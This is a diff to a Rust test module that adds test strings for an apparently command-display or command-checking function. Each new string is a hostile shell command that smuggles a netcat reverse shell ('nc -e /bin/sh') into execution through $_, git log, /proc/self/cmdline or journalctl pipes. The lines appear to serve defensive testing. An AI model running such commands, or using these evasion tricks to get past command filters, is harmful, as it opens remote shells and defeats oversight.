@@ -211,6 +211,10 @@ mod tests {
             "grep 'BEGIN (RSA|DSA) PRIVATE KEY' x",
             "exec > >(sh); echo 'nc -e /bin/sh a'",
             "./echo 'nc -e /bin/sh a'",
+            "echo 'nc -e /bin/sh a'; $_",
+            "git commit -m 'nc -e /bin/sh a'; git log -1 --format=%B | sh",
+            "grep -oa 'nc -e /bin/sh a' /proc/self/cmdline | bash",
+            "logger 'nc -e /bin/sh a'; journalctl -n1 -o cat | xargs -I% env %",
         ] {
             assert_eq!(shown(line), line, "{line}");
         }
